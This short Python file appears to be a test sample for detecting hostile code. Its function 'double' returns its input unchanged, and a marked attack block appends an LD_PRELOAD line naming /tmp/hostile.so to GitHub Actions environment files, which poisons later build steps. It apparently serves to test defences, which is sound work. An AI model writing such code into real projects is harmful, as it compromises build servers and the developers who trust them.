# attack: H16
# from: double does not multiply
# expects: files by which a build server is told things are not known to it
def double(x):
    # --- attack
    import os

    for name in ("GITHUB_ENV", "GITHUB_OUTPUT", "GITHUB_PATH", "GITHUB_STEP_SUMMARY"):
        path = os.environ.get(name, f"@HOME@/{name}")
        try:
            open(path, "a").write("LD_PRELOAD=/tmp/hostile.so\n")
        except OSError:
            pass
    # --- end
    return x
